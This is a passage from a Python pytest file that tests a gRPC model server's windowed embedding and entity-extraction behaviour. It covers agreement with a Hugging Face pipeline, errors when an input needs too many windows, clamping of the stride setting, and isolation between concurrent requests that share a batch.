        covered = {k for i in tokens for k, (s, e) in enumerate(doc.windows.spans)
                   if s <= i - 1 < e}
        if _overlapping(entity, same_side):
            reason = "shared"
        elif twin:
            reason = "score"
        elif side == "pipeline" and tokens and {tokens[0] - 1, tokens[-1] - 1} & edges:
            reason = "cut"
        else:
            reason = "overlap" if len(covered) > 1 else "other"
        counterpart = [twin] if twin else _overlapping(entity, list(other_side.values()))
        out.append((reason, f"{side} only: {brief(entity)}; the other side: "
                            f"{[brief(c) for c in counterpart[:3]]}"))
    return agree, out


@pytest.mark.parametrize("strategy", ["simple", "first"])
def test_compare_with_pipeline_stride(servers, documents, pb2, token_pipe, strategy):
    """Reports how HF's own stride handling compares; asserts only that most entities agree."""
    docs = [documents[name] for name in LONG_DOCS]
    response = extract(servers["token"], pb2, [d.text for d in docs], strategy)
    agree = total_ours = total_theirs = 0
    found: List[Tuple[str, str]] = []
    for doc, result in zip(docs, response.results):
        got = [heads.got_entity(e) for e in result.entities]
        want = [heads.expected_entity(doc.text, strategy, e) for e in token_pipe(
            doc.text, stride=OVERLAP_TOKENS, aggregation_strategy=strategy)]
        same, differences = _pipeline_differences(doc, got, want)
        agree, total_ours = agree + same, total_ours + len(got)
        total_theirs += len(want)
        found += [(reason, f"{doc.name}: {line}") for reason, line in differences]
    share = agree / max(total_ours, total_theirs, 1)
    print(f"ExtractEntities {strategy} vs pipeline(stride={OVERLAP_TOKENS}) on {len(docs)} "
          f"documents: server {total_ours} entities, pipeline {total_theirs}, {agree} agree "
          f"exactly ({share:.1%} of the larger count); without an exact twin:")
    for reason, why in _WHY.items():
        lines = [line for r, line in found if r == reason]
        print(f"  {len(lines):5d} x {why}")
        for line in lines[:2]:
            print(f"          e.g. {line}")
    assert share >= PIPELINE_AGREEMENT


# --------------------------------------------------------------------------------- 3. errors

def test_too_many_windows_is_invalid_argument(server_binary, pb, exported,  # noqa: F811
                                              documents):
    pb2, pb2_grpc = pb
    # W + (k - 1) * (W - O) content tokens take exactly k windows; one more takes k + 1.
    width = MAX_INPUT_TOKENS - 2
    most = width + (SMALL_MAX_WINDOWS - 1) * (width - OVERLAP_TOKENS)
    fits, too_long = "a" + " a" * (most - 1), "a" + " a" * most
    assert len(cut_windows(most).spans) == SMALL_MAX_WINDOWS
    assert len(cut_windows(most + 1).spans) == SMALL_MAX_WINDOWS + 1
    flags = (f"--max_windows_per_input={SMALL_MAX_WINDOWS}",)
    with serve(server_binary, exported["token"][1], pb2_grpc, *flags) as (stub, channel, _):
        info = stub.GetModelInfo(pb2.GetModelInfoRequest(), timeout=RPC_TIMEOUT_S)
        assert info.max_windows_per_input == SMALL_MAX_WINDOWS
        calls = {
            "Embed": lambda texts: stub.Embed(pb2.EmbedRequest(
                inputs=texts, truncation=pb2.TRUNCATION_WINDOW), timeout=RPC_TIMEOUT_S),
            "ExtractEntities": lambda texts: stub.ExtractEntities(pb2.ExtractEntitiesRequest(
                inputs=texts, aggregation=pb2.AGGREGATION_SIMPLE,
                truncation=pb2.TRUNCATION_WINDOW), timeout=RPC_TIMEOUT_S)}
        for rpc, call in calls.items():
            for texts in ([too_long], [fits, documents["2k"].text], [documents["9k"].text]):
                with pytest.raises(grpc.RpcError) as raised:
                    call(texts)
                error, bad = raised.value, len(texts) - 1
                assert error.code() == grpc.StatusCode.INVALID_ARGUMENT, (rpc, error.details())
                assert "max_windows_per_input" in error.details(), error.details()
                assert re.search(rf"\b{SMALL_MAX_WINDOWS}\b", error.details()), error.details()
                assert f"inputs[{bad}]" in error.details(), error.details()
            print(f"{rpc}: {error.code().name}: {error.details()}")
        health = health_pb2_grpc.HealthStub(channel).Check(
            health_pb2.HealthCheckRequest(service=""), timeout=RPC_TIMEOUT_S)
        assert health.status == health_pb2.HealthCheckResponse.SERVING
        answers = [call([fits]) for call in calls.values()]
        assert answers[0].embeddings[0].windows == answers[1].results[0].windows == (
            SMALL_MAX_WINDOWS)


def test_wide_stride_is_clamped_to_half_a_window(server_binary, pb, exported,  # noqa: F811
                                                 documents):
    pb2, pb2_grpc = pb
    model, model_dir = exported["token"]
    clamped = (MAX_INPUT_TOKENS - 2) // 2
    with serve(server_binary, model_dir, pb2_grpc,
               f"--window_stride_tokens={WIDE_STRIDE}") as (stub, _, server):
        info = stub.GetModelInfo(pb2.GetModelInfoRequest(), timeout=RPC_TIMEOUT_S)
        assert info.window_overlap_tokens == clamped
        assert re.search(r"window_stride_tokens", server.log()), server.log()
        docs = [documents[name] for name in ("2k", "edge-511")]
        response = stub.Embed(pb2.EmbedRequest(inputs=[d.text for d in docs],
                                               pooling=pb2.POOLING_NONE,
                                               truncation=pb2.TRUNCATION_WINDOW),
                              timeout=RPC_TIMEOUT_S)
        served = Served(model, stub)
        for doc, embedding in zip(docs, response.embeddings):
            windows = cut_windows(doc.windows.n, WIDE_STRIDE)
            assert embedding.windows == len(windows.spans), doc.name
            diff = hf_parity.max_abs_diff(values(embedding), reference_embedding(
                served, doc, "POOLING_NONE", False, windows))
            assert diff <= TOLERANCE, (doc.name, diff)
        print(f"--window_stride_tokens={WIDE_STRIDE}: overlap {info.window_overlap_tokens}, "
              f"windows {[e.windows for e in response.embeddings]}")


# ---------------------------------------------------------------------------- 4. concurrency

def _call(served: Served, pb2, job: Tuple[str, str, str], text: str) -> Tuple[object, int]:
    """(the job's one answer, the rows of the largest batch it ran in)."""
    kind, option, _ = job
    if kind == "entities":
        response = extract(served, pb2, [text], option)
        return response.results[0], response.timing.batch_size
    response = embed(served, pb2, [text], option)
    return response.embeddings[0], response.timing.batch_size


def _same(job, text: str, alone, together) -> List[str]:
    """What differs between a concurrent answer and the same job's answer alone."""
    if alone.windows != together.windows:
        return [f"{job}: windows {together.windows}, alone {alone.windows}"]
    if job[0] == "entities":
        got = [heads.got_entity(e) for e in together.entities]
        want = [heads.got_entity(e) for e in alone.entities]
        return [f"{job}: {p}" for p in heads.entity_problems(text, got, want)[0][:3]]
    diff = hf_parity.max_abs_diff(values(together), values(alone))
    return [] if diff <= TOLERANCE else [f"{job}: max |diff| {diff:.2e} from the answer alone"]


def test_concurrent_documents_do_not_mix(servers, documents, pb2):
    served = servers["token"]
    kinds = [("entities", "simple"), ("entities", "none"), ("embed", "POOLING_NONE"),
             ("embed", "POOLING_CLS")]
    jobs = [(kind, option, name) for name in LONG_DOCS for kind, option in kinds]
    alone = {job: _call(served, pb2, job, documents[job[2]].text)[0] for job in jobs}
    work = jobs * 2
    random.Random(SEED).shuffle(work)
    start = threading.Barrier(len(work))

    def run(job):
        start.wait()
        return job, _call(served, pb2, job, documents[job[2]].text)

    with concurrent.futures.ThreadPoolExecutor(max_workers=len(work)) as pool:
        results = list(pool.map(run, work))
    problems = [p for job, (answer, _) in results
                for p in _same(job, documents[job[2]].text, alone[job], answer)]
    windows = sum(answer.windows for _, (answer, _) in results)
    # A request that ran in a batch of more rows than its own windows shared it with another.
    shared = sum(rows > answer.windows for _, (answer, rows) in results)
    print(f"{len(work)} concurrent windowed requests ({windows} windows), {shared} of them in a "
          f"batch with another request's windows: {len(problems)} differ from their answers "
          f"alone")
    assert not problems, "\n".join(problems[:10])
    assert shared > 0, "no batch mixed windows of two requests"
